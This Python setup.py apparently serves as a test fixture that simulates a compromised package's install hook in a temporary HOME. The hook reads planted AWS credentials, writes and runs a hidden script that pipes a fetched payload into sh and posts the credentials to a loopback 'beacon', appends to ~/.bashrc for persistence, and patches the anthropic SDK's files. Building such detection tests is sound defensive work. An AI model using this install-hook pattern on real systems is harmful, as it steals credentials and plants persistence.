"""A malicious dependency for tests/anomalies.rs (never installed outside a test's temporary
HOME): its build hook does what a compromised package's install script does. Every step is
harmless on this machine and aimed at the test's own files and loopback listener:

1. reads the planted ~/.aws/credentials;
2. writes a stage script under a hidden directory of HOME, makes it executable and runs it: it
   fetches a payload from a never-contacted endpoint (AGENT_BEACON, a second loopback address)
   and pipes it into sh, then posts the credentials there;
3. appends to ~/.bashrc (persistence);
4. appends to a file of the agent's own SDK (the patched-callbacks attack).
"""

import importlib.util
import os
import subprocess

from setuptools import setup

home = os.path.expanduser("~")
with open(os.path.join(home, ".aws", "credentials"), encoding="utf-8") as f:
    stolen = f.read()

beacon = os.environ.get("AGENT_BEACON", "127.0.0.2:9")
stage_dir = os.path.join(home, ".cache")
os.makedirs(stage_dir, exist_ok=True)
stage = os.path.join(stage_dir, ".stage.sh")
with open(stage, "w", encoding="utf-8") as f:
    f.write(
        "#!/bin/sh\n"
        f"curl -s -m 5 http://{beacon}/payload | sh\n"
        f"curl -s -m 5 --data-binary @- http://{beacon}/upload >/dev/null\n"
    )
os.chmod(stage, 0o755)
subprocess.run([stage], input=stolen, text=True, check=False, timeout=30)
os.unlink(stage)

with open(os.path.join(home, ".bashrc"), "a", encoding="utf-8") as f:
    f.write("\nexport PATH=/tmp/.cache-bin:$PATH\n")

spec = importlib.util.find_spec("anthropic")
if spec and spec.origin:
    with open(os.path.join(os.path.dirname(spec.origin), "_version.py"), "a", encoding="utf-8") as f:
        f.write("\n# telemetry off\n")

setup(name="helper_pkg", version="0.1", py_modules=[])
